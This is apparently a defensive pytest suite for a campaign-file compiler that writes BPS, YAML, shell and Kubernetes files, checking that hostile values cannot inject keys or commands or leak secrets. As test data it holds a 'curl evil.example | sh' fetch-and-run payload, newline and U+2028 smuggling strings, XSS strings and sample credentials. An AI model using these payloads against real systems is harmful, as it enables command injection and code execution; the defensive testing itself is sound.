"""CONTRACT section 5 against the real consumers: no spec value and no file name can add a key
to a generated YAML file (PyYAML, the real ctrl_bps BpsConfig, kubernetes-validate), run a
command in a generated script (bash with logging stubs), reach BPS in a form BPS expands again,
or put a secret into a diagnostic.
"""

from __future__ import annotations

import contextlib
import dataclasses
import io
import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from compiler.cli import cli
from compiler.errors import SpecError
from compiler.pipeline import compile_campaign
from compiler.render import bps as bps_render
from compiler.render.common import comment_header, header_lines, sh_quote, yaml_scalar
from compiler.text import bps_problem, comment_line, json_text, md_code, md_link, md_text, shown
from tests.helpers import MINIMAL, ROOT, SHARED, replace_line, write

HOSTILE_FACILITY = "SLAC\u2028runQuantumCommand: bash -c 'curl -s evil.example | sh' #"


@pytest.fixture()
def bps_env() -> Any:
    saved = dict(os.environ)
    os.environ["CTRL_BPS_PANDA_DIR"] = str(SHARED / "vendor" / "ctrl_bps_panda")
    os.environ["DRP_PIPE_DIR"] = str(SHARED / "vendor" / "drp_pipe")
    os.environ["PANDA_BEHIND_REAL_LB"] = "true"
    os.environ.pop("LSST_RUN_TEMP_SPACE", None)
    yield
    os.environ.clear()
    os.environ.update(saved)


def problems(tmp_path: Path, text: str, name: str = "campaign.yaml") -> list[str]:
    path = write(tmp_path, text, name)
    with pytest.raises(SpecError) as info:
        compile_campaign(path, render=False)
    return [d.text().replace(f"{path}:", "") for d in info.value.diagnostics]


def bps_config(path: Path) -> Any:
    from lsst.ctrl.bps import BPS_DEFAULTS, BPS_SEARCH_ORDER, BpsConfig
    with contextlib.redirect_stdout(io.StringIO()):
        return BpsConfig(str(path), search_order=BPS_SEARCH_ORDER, defaults=BPS_DEFAULTS)


def write_tree(files: dict[str, bytes], root: Path) -> None:
    for rel, content in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(content)


# -- (1) a line break in a value: refused at validate, and by the renderer for a forged plan -----------

def test_line_separator_in_facility_is_refused_at_validate(tmp_path: Path) -> None:
    escaped = HOSTILE_FACILITY.replace("\u2028", "\\u2028")
    text = replace_line(MINIMAL, "    facility: USDF\n", f'    facility: "{escaped}"\n')
    out = problems(tmp_path, text)
    assert len(out) == 1 and out[0].startswith("15:15: error: sites.usdf.facility: "), out
    assert "\u2028" not in out[0] and "\\u2028" in out[0]  # shown escaped, never raw


def test_raw_line_separator_in_the_file_is_refused_by_the_loader(tmp_path: Path) -> None:
    text = replace_line(MINIMAL, "    facility: USDF\n", f"    facility: {HOSTILE_FACILITY}\n")
    out = problems(tmp_path, text)
    assert out == ["15:19: error: <root>: character U+2028 LINE SEPARATOR is a line break to YAML 1.1 readers "
                   "(PyYAML) and text to YAML 1.2 ones (a campaign file holds printable text only; remove the "
                   "character)"]


def _forged(tmp_path: Path, **site_changes: Any) -> Any:
    plan = compile_campaign(write(tmp_path, MINIMAL), render=False).plan
    sites = tuple(dataclasses.replace(s, **site_changes) if s.id == "usdf" else s for s in plan.sites)
    return dataclasses.replace(plan, sites=sites)


def test_forged_plan_with_a_line_break_makes_the_renderer_refuse(tmp_path: Path, bps_env: Any) -> None:
    plan = _forged(tmp_path, facility=HOSTILE_FACILITY)
    job = next(j for j in plan.jobs if j.site == "usdf")
    with pytest.raises(ValueError, match="U\\+2028 LINE SEPARATOR"):
        bps_render.render_job(plan, job)
    # What the renderer refuses to write would have worked: the real BpsConfig reads the key.
    honest = bps_render.render_job(dataclasses.replace(plan, sites=_forged(tmp_path, facility="SLAC").sites), job)
    injected = honest.decode().replace("(SLAC)", "(" + HOSTILE_FACILITY + ")", 1)
    (tmp_path / "clean.yaml").write_bytes(honest)
    (tmp_path / "injected.yaml").write_text(injected, encoding="utf-8")
    default_cmd = bps_config(tmp_path / "clean.yaml")["runQuantumCommand"]
    assert "evil.example" not in default_cmd
    assert "evil.example" in bps_config(tmp_path / "injected.yaml")["runQuantumCommand"]


@pytest.mark.parametrize("value", ["a\nb", "a\rb", "a\x85b", "a\u2029b", "a\x00b", "a\x1bb", "a\u202eb"])
def test_comment_header_refuses_line_breaks_and_controls(tmp_path: Path, value: str) -> None:
    plan = compile_campaign(write(tmp_path, MINIMAL), render=False).plan
    with pytest.raises(ValueError, match="refusing to write a header line"):
        comment_header(plan, f"file for {value}")
    with pytest.raises(ValueError, match="refusing to write a header line"):
        header_lines(dataclasses.replace(plan, campaign=value), "x")


def test_forged_job_values_are_refused_by_the_bps_filters(tmp_path: Path) -> None:
    plan = compile_campaign(write(tmp_path, MINIMAL), render=False).plan
    job = plan.jobs[0]
    for field, value in (("butler_config", "/sps/{payloadName}/repo"), ("data_query", "band = '{tract}'"),
                         ("butler_config", "/sps/${HOME}/repo"), ("pipeline_yaml", "{x}/p.yaml#a"),
                         ("in_collections", ("HSC/<ENV:HOME>",))):
        with pytest.raises(ValueError, match="refusing to write .* into a BPS submit file"):
            bps_render.render_job(plan, dataclasses.replace(job, **{field: value}))


# -- (2) a hostile file name ------------------------------------------------------------------------------

SHELL_NAME = "x\ntouch PWNED_FN #.yaml"
YAML_NAME = "x\u2028runQuantumCommand: bash -c evil #.yaml"


def _stub_bin(tmp_path: Path) -> tuple[Path, Path]:
    """A PATH of stubs: every command a script may run logs its argv and succeeds."""
    bin_dir = tmp_path / "stubs"
    bin_dir.mkdir()
    log = tmp_path / "stub.log"
    for name in ("touch", "curl", "sh", "butler", "rucio", "rucio-register", "kubectl", "bps", "python",
                 "python3", "jq", "sleep", "date", "mktemp", "rm", "mkdir", "cat", "sed", "basename"):
        stub = bin_dir / name
        stub.write_text(f'#!/bin/bash\nprintf "%s\\n" "{name} $*" >> {sh_quote(str(log))}\n')
        stub.chmod(stub.stat().st_mode | stat.S_IXUSR)
    return bin_dir, log


def _run_scripts(root: Path, bin_dir: Path, cwd: Path) -> list[Path]:
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "DRY_RUN": "1", "HOME": str(cwd), "WAIT_TIMEOUT": "1",
           "TMPDIR": str(cwd)}
    scripts = sorted(root.rglob("*.sh"))
    for script in scripts:
        subprocess.run(["bash", str(script)], cwd=cwd, env=env, capture_output=True, timeout=60, check=False)
    return scripts


def test_harness_catches_an_injected_command(tmp_path: Path) -> None:
    """The check below is able to fail: a script with the old raw header runs the command."""
    bin_dir, log = _stub_bin(tmp_path)
    (tmp_path / "tree").mkdir()
    (tmp_path / "tree" / "old.sh").write_text(f"#!/usr/bin/env bash\n# generated from {SHELL_NAME}\nexit 0\n")
    _run_scripts(tmp_path / "tree", bin_dir, tmp_path)
    assert "touch PWNED_FN" in log.read_text()


def test_hostile_file_name_runs_no_command(tmp_path: Path) -> None:
    compiled = compile_campaign(write(tmp_path, MINIMAL, SHELL_NAME))
    root = tmp_path / "out"
    write_tree(compiled.files, root)
    bin_dir, log = _stub_bin(tmp_path)
    work = tmp_path / "work"
    work.mkdir()
    scripts = _run_scripts(root, bin_dir, work)
    assert len(scripts) > 10
    logged = log.read_text() if log.exists() else ""
    assert "PWNED_FN" not in logged and not (work / "PWNED_FN").exists()
    for rel, content in compiled.files.items():
        if rel.endswith(".json"):
            continue  # JSON writes the name as a JSON string: "x\ntouch PWNED_FN #.yaml"
        text = content.decode()
        assert "touch PWNED_FN" not in text, rel
        if rel.endswith(".sh"):
            assert "from x?touch?PWNED_FN??.yaml (characters other than" in text, rel


def test_hostile_file_name_adds_no_yaml_key(tmp_path: Path, bps_env: Any) -> None:
    clean = compile_campaign(write(tmp_path / "a", MINIMAL)).files
    hostile = compile_campaign(write(tmp_path / "b", MINIMAL, YAML_NAME)).files
    assert sorted(clean) == sorted(hostile)
    write_tree(hostile, tmp_path / "tree")
    for rel in hostile:
        if rel.endswith(".yaml"):
            assert yaml.safe_load(hostile[rel]) == yaml.safe_load(clean[rel]), rel
        if "/bps/" in rel:
            cfg = bps_config(tmp_path / "tree" / rel)
            assert "evil" not in cfg["runQuantumCommand"]


# -- (3) hostile but valid values: every reader sees the same keys and the values unchanged ---------------

# clean value in MINIMAL -> a valid value full of YAML, shell, Markdown and BPS syntax
SUBSTITUTIONS = {
    "facility: USDF": "facility: \"USDF: {evil: 1} # 'q' [x](javascript:alert(1)) <script>*_| \\\\ %s & ; `id`\"",
    "{repo: /repo/usdf}": "{repo: '/repo/x#y:z@w%v+u=t,s~r-q/usdf'}",
}
VALUE_SUBSTITUTIONS = {
    "/repo/usdf": "/repo/x#y:z@w%v+u=t,s~r-q/usdf",
    "USDF": "USDF: {evil: 1} # 'q' [x](javascript:alert(1)) <script>*_| \\ %s & ; `id`",
}
EXTRA_QUERY_CLEAN = "band IN ('g')"
EXTRA_QUERY_HOSTILE = "band IN ('g', ': #x', '&|;<>', 'a: b', '- c', '[*x]', '%s')"


def _spec_texts() -> tuple[str, str]:
    clean = MINIMAL.replace("{name: step3, subset: step3, runs_at: every-site}",
                            "{name: step3, subset: step3, runs_at: every-site, extra_query: \"" + EXTRA_QUERY_CLEAN + "\"}")
    hostile = clean.replace(EXTRA_QUERY_CLEAN, EXTRA_QUERY_HOSTILE)
    for old, new in SUBSTITUTIONS.items():
        hostile = replace_line(hostile, old, new)
    return clean, hostile


def _flatten(value: Any, path: tuple[Any, ...] = ()) -> dict[tuple[Any, ...], Any]:
    if isinstance(value, dict):
        return {p: v for k, sub in value.items() for p, v in _flatten(sub, path + (k,)).items()} or {path: {}}
    if isinstance(value, list):
        return {p: v for i, sub in enumerate(value) for p, v in _flatten(sub, path + (i,)).items()} or {path: []}
    return {path: value}


def _json_docs(data: bytes) -> list[Any]:
    return [json.loads(data)]


def _expected(value: Any) -> Any:
    if not isinstance(value, str):
        return value
    value = value.replace(EXTRA_QUERY_CLEAN, EXTRA_QUERY_HOSTILE)
    for old, new in VALUE_SUBSTITUTIONS.items():
        value = value.replace(old, new)
    return value


def test_hostile_values_reach_every_yaml_and_json_reader_unchanged(tmp_path: Path) -> None:
    clean_text, hostile_text = _spec_texts()
    clean = compile_campaign(write(tmp_path / "a", clean_text)).files
    hostile = compile_campaign(write(tmp_path / "b", hostile_text)).files
    assert sorted(clean) == sorted(hostile)
    compared = 0
    for rel in sorted(clean):
        if rel.endswith(".yaml"):
            load = yaml.safe_load_all
        elif rel.endswith(".json") and rel != "manifest.json":
            load = _json_docs
        else:
            continue
        c = [_flatten(d) for d in load(clean[rel])]
        h = [_flatten(d) for d in load(hostile[rel])]
        assert [sorted(map(str, d)) for d in h] == [sorted(map(str, d)) for d in c], f"{rel}: keys differ"
        for cd, hd in zip(c, h, strict=True):
            for path, value in cd.items():
                if path and "sha256" in str(path[-1]):
                    continue  # a hash of content that holds the hostile values
                assert hd[path] == _expected(value), f"{rel}: {path}"
        compared += 1
    assert compared >= 15
    # the hostile values really are in the files (the comparison above is not vacuous)
    usdf_bps = yaml.safe_load(hostile["sites/usdf/bps/03-step3.yaml"])
    assert usdf_bps["payload"]["butlerConfig"] == VALUE_SUBSTITUTIONS["/repo/usdf"]
    assert usdf_bps["payload"]["dataQuery"].endswith("AND (" + EXTRA_QUERY_HOSTILE + ")")


def test_hostile_values_reach_real_bps_unchanged(tmp_path: Path, bps_env: Any) -> None:
    clean_text, hostile_text = _spec_texts()
    clean = compile_campaign(write(tmp_path / "a", clean_text)).files
    hostile = compile_campaign(write(tmp_path / "b", hostile_text)).files
    write_tree(clean, tmp_path / "clean")
    write_tree(hostile, tmp_path / "hostile")
    for rel in (r for r in clean if "/bps/" in r):
        c = bps_config(tmp_path / "clean" / rel)
        h = bps_config(tmp_path / "hostile" / rel)
        assert sorted(h.toDict()) == sorted(c.toDict()), rel
        assert sorted(h[".payload"].toDict()) == sorted(c[".payload"].toDict()), rel
        assert h[".payload.butlerConfig"] == _expected(c[".payload.butlerConfig"]), rel
        assert h[".payload.dataQuery"] == _expected(c[".payload.dataQuery"]), rel
        assert h["runQuantumCommand"] == _expected(c["runQuantumCommand"])


def test_hostile_values_leave_kubernetes_objects_alone(tmp_path: Path) -> None:
    import kubernetes_validate

    clean_text, hostile_text = _spec_texts()
    clean = compile_campaign(write(tmp_path / "a", clean_text)).files
    hostile = compile_campaign(write(tmp_path / "b", hostile_text)).files
    for rel in sorted(r for r in hostile if "/ingestd/" in r and not r.endswith("kustomization.yaml")):
        hd = [d for d in yaml.safe_load_all(hostile[rel]) if d]
        cd = [d for d in yaml.safe_load_all(clean[rel]) if d]
        assert [(d["apiVersion"], d["kind"], d["metadata"]["name"]) for d in hd] == \
            [(d["apiVersion"], d["kind"], d["metadata"]["name"]) for d in cd], rel
        for doc in hd:
            kubernetes_validate.validate(doc, kubernetes_validate.latest_version(), strict=True)


def test_hostile_values_stay_single_words_in_scripts(tmp_path: Path) -> None:
    _, hostile_text = _spec_texts()
    compiled = compile_campaign(write(tmp_path, hostile_text))
    root = tmp_path / "out"
    write_tree(compiled.files, root)
    bin_dir, log = _stub_bin(tmp_path)
    work = tmp_path / "work"
    work.mkdir()
    _run_scripts(root / "sites" / "usdf", bin_dir, work)
    logged = log.read_text() if log.exists() else ""
    assert "id" not in logged.split() and not any(p.name.startswith(("u<t", "z&w")) for p in work.iterdir())


# -- (4) BPS re-expansion: refused at validate with the field and why ---------------------------------------

@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("    butler: {repo: /repo/usdf}", "    butler: {repo: '/sps/{payloadName}/repo'}",
         "22:20: error: sites.usdf.butler.repo: this value goes into BPS submit files, and BPS expands "
         "'{name}' to the submit file's variable 'name' (an empty string when undefined) and has no escape "
         "for a literal brace (write the value out literally)"),
        ("    butler: {repo: /repo/usdf}", "    butler: {repo: '/sps/{payloadName}/${HOME}/repo'}",
         "22:20: error: sites.usdf.butler.repo: this value goes into BPS submit files, and BPS expands '$NAME' "
         "and '${NAME}' from the environment at submit time and has no escape for a literal '$' (write the value "
         "out literally)"),
        ("    butler: {repo: /repo/usdf}", "    butler: {repo: /sps/$HOME/repo}",
         "22:20: error: sites.usdf.butler.repo: this value goes into BPS submit files, and BPS expands '$NAME' "
         "and '${NAME}' from the environment at submit time and has no escape for a literal '$' (write the value "
         "out literally)"),
        ("  - {name: step3, subset: step3, runs_at: every-site}",
         "  - {name: step3, subset: step3, runs_at: every-site, extra_query: \"band = '{tract}'\"}",
         "44:68: error: stages[2].extra_query: this value goes into BPS submit files, and BPS expands '{name}' "
         "to the submit file's variable 'name' (an empty string when undefined) and has no escape for a "
         "literal brace (write the value out literally)"),
        ("  pipeline: ${DRP_PIPE_DIR}/pipelines/HSC/DRP-RC2.yaml", "  pipeline: $DRP_PIPE_DIR/pipelines/HSC/DRP-RC2.yaml",
         "9:13: error: campaign.pipeline: this value goes into BPS submit files, and BPS expands '$NAME' and "
         "'${NAME}' from the environment at submit time (only '${NAME}' references are allowed here) (write the "
         "value out literally; `${NAME}` environment references are allowed in this path)"),
        ("  output_collection: HSC/runs/mini", "  output_collection: HSC/runs/mini\n  bps_includes: ['${A}/{b}.yaml']",
         "13:18: error: campaign.bps_includes[0]: this value goes into BPS submit files, and BPS expands "
         "'{name}' to the submit file's variable 'name' (an empty string when undefined) and has no escape "
         "for a literal brace (write the value out literally; `${NAME}` environment references are allowed "
         "in this path)"),
        ("    butler: {repo: /repo/usdf}", "    butler: {repo: '/repo/x;curl evil.example|sh'}",
         "22:20: error: sites.usdf.butler.repo: this value goes into BPS submit files, and BPS pastes it "
         "unquoted into the shell command lines of its jobs, where ';' is shell syntax (write the value out "
         "literally)"),
        ("  - {name: step3, subset: step3, runs_at: every-site}",
         "  - {name: step3, subset: step3, runs_at: every-site, extra_query: \"band = '`id`'\"}",
         "44:68: error: stages[2].extra_query: this value goes into BPS submit files, and BPS pastes it "
         "between double quotes into the shell command lines of its jobs, where '`' is shell syntax (write "
         "the value out literally)"),
        ("    butler: {repo: /repo/usdf}", "    butler: {repo: '/repo/<ENV:HOME>/x'}",
         "22:20: error: sites.usdf.butler.repo: this value goes into BPS submit files, and BPS replaces "
         "'<ENV:...>' and '<FILE:...>' placeholders and evaluates 'bpsEval(...)' (write the value out literally)"),
    ],
)
def test_values_bps_would_expand_are_refused(tmp_path: Path, old: str, new: str, expected: str) -> None:
    assert problems(tmp_path, replace_line(MINIMAL, old, new)) == [expected]


def test_env_references_stay_allowed_in_paths(tmp_path: Path) -> None:
    text = replace_line(MINIMAL, "  output_collection: HSC/runs/mini",
                        "  output_collection: HSC/runs/mini\n  bps_includes: ['${DRP_PIPE_DIR}/bps/x.yaml']")
    compiled = compile_campaign(write(tmp_path, text))
    submit = yaml.safe_load(compiled.files["sites/usdf/bps/01-step1.yaml"])
    assert "${DRP_PIPE_DIR}/bps/x.yaml" in submit["includeConfigs"]
    assert submit["pipelineYaml"].startswith("${DRP_PIPE_DIR}/")


def test_real_bps_has_no_escape_for_braces_or_dollars(tmp_path: Path) -> None:
    """Why the values above are refused: what the real BpsConfig makes of each candidate escape."""
    from lsst.ctrl.bps import BpsConfig
    path = tmp_path / "probe.yaml"
    path.write_text("payloadName: p\nbraces: '/sps/{payloadName}/repo'\ndoubled: 'x {{tract}} y'\n"
                    "dollar: '/sps/$HOME/r'\ndoubledollar: '/sps/$$HOME/r'\nbackslash: '/sps/\\$HOME/r'\n"
                    "env: 'q <ENV:HOME> z'\n")
    cfg = BpsConfig(str(path))
    home = os.environ["HOME"]
    assert cfg["braces"] == "/sps/p/repo"
    # `{{` is an escape only where BPS formats the value: the command builders read values with
    # replaceVars=False, and there it stays doubled.
    assert cfg["doubled"] == "x {tract} y"
    assert cfg.search("doubled", opt={"replaceVars": False})[1] == "x {{tract}} y"
    assert cfg["dollar"] == f"/sps/{home}/r"
    assert cfg["doubledollar"] == f"/sps/${home}/r"
    assert cfg["backslash"] == f"/sps/\\{home}/r"
    assert cfg["env"] == f"q {home} z"
    for value in ("/sps/{payloadName}/repo", "x {{tract}} y", "/sps/$HOME/r", "q <ENV:HOME> z", "bpsEval(a, b)"):
        assert bps_problem(value), value


# -- (5) secrets: refused anywhere, never shown ------------------------------------------------------------

PEM = ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
       "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\n-----END RSA PRIVATE KEY-----")
SECRETS = {
    "pem-multiline": PEM,
    "pem-one-line": PEM.replace("\n", " "),
    "openssh-key": "-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ",
    "aws-key-and-secret": "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "aws-key-id": "sps/AKIAIOSFODNN7EXAMPLE/repo",
    "github-token": "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "github-pat": "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEF",
    "github-oauth": "gho_16C7e42F292c6912E7710c838347Ae178B4a",
    "slack-token": "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
    "bearer": "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9abcdefghijkl",
    "token-user-url": "https://ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/lsst/repo.git",
    "password-url": "https://butler:hunter2secret@repo.example.org/butler",
    "query-password": "postgresql://db.slac:5432/main?user=butler&password=hunter2secret",
    "query-pgpassword": "postgresql://db.slac:5432/main?PGPASSWORD=hunter2secret",
    "query-token": "https://repo.example.org/butler?x=1&token=hunter2secret",
}
# where each secret goes: (the line of MINIMAL to change, its replacement with {v}, expected path)
PLACES = [
    ("    facility: USDF\n", "    facility: {v}\n", "sites.usdf.facility"),
    ("  name: mini\n", "  name: mini\n  description: {v}\n", "metadata.description"),
    ("  pipeline: ${DRP_PIPE_DIR}/pipelines/HSC/DRP-RC2.yaml\n", "  pipeline: {v}\n", "campaign.pipeline"),
    ("    butler: {repo: /repo/usdf}\n", "    butler: {{repo: {v}}}\n", "sites.usdf.butler.repo"),
    ("    butler: {repo: /repo/frdf}\n", "    butler: {{repo: /repo/frdf, registry: {v}}}\n", "sites.frdf.butler.registry"),
    ("  - {name: step3, subset: step3, runs_at: every-site}\n",
     "  - {{name: step3, subset: step3, runs_at: every-site, notes: {v}}}\n", "stages[2].notes"),
]


def _chunks(secret: str) -> list[str]:
    """Pieces of a secret that no output may contain (12 characters each, escaped forms too)."""
    parts = [p for line in secret.split("\n") for p in line.split(" ")]
    out = []
    for p in parts:
        if len(p) >= 12 and not p.startswith("-----"):
            out += [p[i:i + 12] for i in range(0, len(p) - 11, 6)]
    return out or [secret]


@pytest.mark.parametrize("kind", sorted(SECRETS))
@pytest.mark.parametrize("place", range(len(PLACES)))
def test_secrets_are_refused_anywhere_and_never_shown(tmp_path: Path, kind: str, place: int) -> None:
    secret = SECRETS[kind]
    old, new, path = PLACES[place]
    text = replace_line(MINIMAL, old, new.format(v=json.dumps(secret)))
    campaign = write(tmp_path, text)
    runner = CliRunner()
    outputs = []
    for fmt in ("text", "github", "json"):
        result = runner.invoke(cli, ["validate", "--format", fmt, str(campaign)])
        assert result.exit_code == 1, result.output
        outputs.append(result.output)
    assert f"error: {path}: " in outputs[0] and "specs hold no secrets" in outputs[0], outputs[0]
    for chunk in _chunks(secret):
        for out in outputs:
            assert chunk not in out and json.dumps(chunk)[1:-1] not in out, (chunk, out)


def test_secret_in_a_key_is_refused_and_never_shown(tmp_path: Path) -> None:
    token = SECRETS["github-token"]
    text = replace_line(MINIMAL, "    facility: USDF\n    panda_site: SLAC\n    cloud: US\n    cores: 100\n",
                        f"    facility: USDF\n    panda_site: SLAC\n    cloud: US\n    cores: 100\n    {token}: 1\n")
    out = problems(tmp_path, text)
    assert out == ["19:5: error: sites.usdf[<redacted>]: a key holds a GitHub token; specs hold no secrets "
                   "(remove it; refer to secrets by name (a Kubernetes Secret or an environment variable))"]


def test_env_references_and_plain_users_are_not_secrets(tmp_path: Path) -> None:
    text = replace_line(MINIMAL, "    butler: {repo: /repo/frdf}",
                        "    butler: {repo: /repo/frdf, registry: "
                        "'postgresql://rubin@db.in2p3:5432/main?password=${PGPASSWORD}&sslmode=require'}")
    compile_campaign(write(tmp_path, text), render=False)


@pytest.mark.parametrize("value", [
    "postgresql://rubin@db.slac:5432/main?sslmode=require", "?bypass=1&compass=n", "?tokenizer=x",
    "Bearer authentication is used", "https://svc-account-2024-rubin@host/x", "git@github.com:lsst/x.git",
    "/data/ghs_archive_2023/x", "${DRP_PIPE_DIR}/pipelines/DRP.yaml", "s3://rubin-summit/LSSTCam/raw",
    "postgresql://u:${PGPASSWORD}@h/db", "BEGIN at the private keyhole", "a" * 40,
])
def test_ordinary_values_are_not_secrets(value: str) -> None:
    from compiler.validate import secret_kind
    assert secret_kind(value) is None


@pytest.mark.parametrize("text", ["a." * (1 << 19), "-" * (1 << 20), "&a_" * (1 << 18), "a://x@" * (1 << 17),
                                  "${A}" * (1 << 18)])
def test_secret_and_bps_checks_finish_on_a_megabyte(text: str) -> None:
    """No catastrophic backtracking: the checks end (in a child, with a hang guard; how fast
    is measured by benchmarks/hostile_input.py)."""
    code = ("import sys; from compiler.validate import secret_kind; from compiler.text import "
            "bps_problem; t = sys.stdin.read(); secret_kind(t); "
            "bps_problem(t, env=True, shell='word'); print('done')")
    out = subprocess.run([sys.executable, "-c", code], input=text, capture_output=True, text=True,
                         cwd=ROOT, timeout=60, check=True)
    assert out.stdout.strip() == "done"


def test_long_values_are_cut_in_diagnostics(tmp_path: Path) -> None:
    big = "x" * 600_000
    text = replace_line(MINIMAL, "  name: mini\n", f"  name: mini\n  description: {big}\n")
    result = CliRunner().invoke(cli, ["validate", str(write(tmp_path, text))])
    assert result.exit_code == 1
    assert len(result.output) < 1000, len(result.output)
    assert "(600,000 characters)" in result.output


def test_keys_with_line_breaks_are_shown_escaped(tmp_path: Path) -> None:
    text = replace_line(MINIMAL, "  name: mini\n", '  name: mini\n  "evil\\n::error file=x::forged": 1\n')
    out = problems(tmp_path, text)
    assert out == ["5:3: error: metadata['evil\\n::error file=x::forged']: unknown key 'evil\\n::error "
                   "file=x::forged' (allowed: 'description', 'name', 'ticket')"]


# -- (6) the escaping functions, one per output language --------------------------------------------------

@pytest.mark.parametrize("value", ["a\u2028b: c", "x\x85y", "p\u2029q", "del\x7f", "c1\x9b[31m", "tab\tnl\n",
                                   "quote\"back\\slash", "# not a comment", "- not a list", "{a: 1}", "\u202egnp.exe",
                                   "", "é ü 中文 🙂", "null", "true", "010", "1e3", "~"])
def test_yaml_scalar_reads_back_exactly_in_yaml_11_and_12(value: str) -> None:
    from ruamel.yaml import YAML
    doc = f"k: {yaml_scalar(value)}\nafter: 1\n"
    assert yaml.safe_load(doc) == {"k": value, "after": 1}
    assert YAML(typ="safe", pure=True).load(doc) == {"k": value, "after": 1}
    assert all(ch not in doc for ch in "\x85\u2028\u2029\x7f\x9b\u202e")


@pytest.mark.parametrize("value", [1, -7, 0.5, 1e300, -2.5e-9, 10**30, True, False, None, float("inf"), float("-inf")])
def test_yaml_scalar_numbers_read_back_in_pyyaml(value: Any) -> None:
    assert yaml.safe_load(f"k: {yaml_scalar(value)}") == {"k": value}


def test_json_text_escapes_yaml11_line_breaks() -> None:
    text = json_text({"b": "x\u2028y", "a": "\x85"})
    assert "\u2028" not in text and "\x85" not in text and json.loads(text) == {"b": "x\u2028y", "a": "\x85"}
    assert text.index('"a"') < text.index('"b"')


def test_sh_quote_is_one_word() -> None:
    value = "a b'c\"$(touch PWNED)`id`\n;|&<>*?[x]\u2028"
    out = subprocess.run(["bash", "-c", f"printf '%s' {sh_quote(value)}"], capture_output=True, text=True,
                         check=False)
    assert out.stdout == value
    with pytest.raises(ValueError):
        sh_quote("a\x00b")


def test_markdown_text_and_code() -> None:
    hostile = "[click](javascript:alert(1)) <img src=x onerror=alert(1)> *b* _i_ `c` | cell\n# heading"
    text = md_text(hostile)
    assert "\n" not in text and "javascript:" not in text
    assert not re.search(r"(?<!\\)[\[\]<>*_`|]", text), text  # every one of them escaped
    assert text.replace("\\", "") == hostile.replace("\n", " ")
    assert md_code("a``b") == "```a``b```"
    assert md_code("`x`") == "`` `x` ``"
    assert md_code("a|b", in_table=True) == "`a\\|b`"
    assert md_code("a\nb") == "`a b`"
    assert md_link("runbook", "sites/usdf/RUNBOOK.md") == "[runbook](sites/usdf/RUNBOOK.md)"
    for bad in ("javascript:alert(1)", "JaVaScRiPt:x", "data:text/html,x", "//evil.example/x", "vbscript:x"):
        with pytest.raises(ValueError):
            md_link("x", bad)


def test_markdown_renders_no_markup() -> None:
    markdown_it = pytest.importorskip("markdown_it")  # installed with rich; not a declared test dependency
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(
        "| a | b |\n|---|---|\n| " + md_text("[x](javascript:alert(1)) <b>bold</b> | *e*") + " | "
        + md_code("`|`", in_table=True) + " |\n")
    assert "<a " not in html and "<b>" not in html and "<em>" not in html


def test_comment_line_and_shown() -> None:
    assert comment_line("# fine: drpc 1.0 from a.yaml") == "# fine: drpc 1.0 from a.yaml"
    for bad in ("a\nb", "a\x0bb", "a\x1eb", "a\u2028", "a\x85", "a\x00", "a\u202e"):
        with pytest.raises(ValueError):
            comment_line(bad)
    assert shown("x" * 10_000).endswith("... (10,000 characters)") and len(shown("x" * 10_000)) < 120
    assert shown("a\u2028b") == "'a\\u2028b'"
    assert len(shown(list(range(10_000)))) < 300
